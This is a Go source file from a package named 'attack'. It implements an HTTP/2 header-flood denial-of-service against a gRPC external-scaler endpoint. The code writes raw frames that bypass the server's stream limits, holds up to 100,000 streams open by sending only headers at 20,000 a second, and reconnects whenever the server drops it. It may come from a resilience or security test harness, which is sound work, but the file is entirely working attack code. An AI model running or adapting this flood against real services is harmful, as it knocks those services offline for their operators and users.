package attack

import (
	"bytes"
	"context"
	"fmt"
	"net"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

const (
	// bodiless is how many calls are opened whose request never comes.
	bodiless = 100_000
	// headerRate is how many a second.
	headerRate = 20_000
)

// headers opens calls on one connection and sends nothing but their headers: each waits on
// the server for its request. Frames are written as they are, because a client of gRPC
// would keep to what the server allows. A connection that the server ends is opened again.
func headers(ctx context.Context, a *attacker) error {
	time.AfterFunc(2*bodiless/headerRate*time.Second, a.ready)
	for ctx.Err() == nil {
		if err := a.flood(ctx); err != nil && ctx.Err() == nil {
			a.refused.Add(1)
			time.Sleep(100 * time.Millisecond)
		}
	}
	return nil
}

// flood has one connection, until it or ctx ends.
func (a *attacker) flood(ctx context.Context) error {
	conn, err := new(net.Dialer).DialContext(ctx, "tcp", a.scaler)
	if err != nil {
		return fmt.Errorf("connect: %w", err)
	}
	defer context.AfterFunc(ctx, func() { _ = conn.Close() })()
	defer conn.Close()
	if _, err := conn.Write([]byte(http2.ClientPreface)); err != nil {
		return fmt.Errorf("begin a connection: %w", err)
	}
	// mu guards writing: frames go out whole.
	var mu sync.Mutex
	framer := http2.NewFramer(conn, conn)
	if err := framer.WriteSettings(); err != nil {
		return fmt.Errorf("begin a connection: %w", err)
	}
	var open atomic.Int64
	var ended atomic.Bool
	var reading sync.WaitGroup
	reading.Go(func() {
		defer ended.Store(true)
		for {
			frame, err := framer.ReadFrame()
			if err != nil {
				return
			}
			mu.Lock()
			switch frame := frame.(type) {
			case *http2.SettingsFrame:
				if !frame.IsAck() {
					err = framer.WriteSettingsAck()
				}
			case *http2.PingFrame:
				if !frame.IsAck() {
					err = framer.WritePing(true, frame.Data)
				}
			case *http2.RSTStreamFrame:
				open.Add(-1)
				a.refused.Add(1)
			case *http2.HeadersFrame:
				if frame.StreamEnded() {
					open.Add(-1)
					a.refused.Add(1)
				}
			}
			mu.Unlock()
			if err != nil {
				return
			}
		}
	})
	var block bytes.Buffer
	encoder := hpack.NewEncoder(&block)
	id := uint32(1)
	ctx, cancel := context.WithCancel(ctx)
	defer cancel()
	paced(ctx, headerRate, 1, func(int) {
		if ended.Load() {
			cancel()
			return
		}
		if open.Load() >= bodiless {
			return
		}
		mu.Lock()
		defer mu.Unlock()
		block.Reset()
		for _, field := range [][2]string{
			{":method", "POST"},
			{":scheme", "http"},
			{":path", "/externalscaler.ExternalScaler/StreamIsActive"},
			{":authority", a.scaler},
			{"content-type", "application/grpc"},
			{"te", "trailers"},
		} {
			// A buffer takes all.
			_ = encoder.WriteField(hpack.HeaderField{Name: field[0], Value: field[1]})
		}
		if err := framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block.Bytes(), EndHeaders: true}); err != nil {
			cancel()
			return
		}
		id += 2
		open.Add(1)
		a.requests.Add(1)
	})
	_ = conn.Close()
	reading.Wait()
	return nil
}
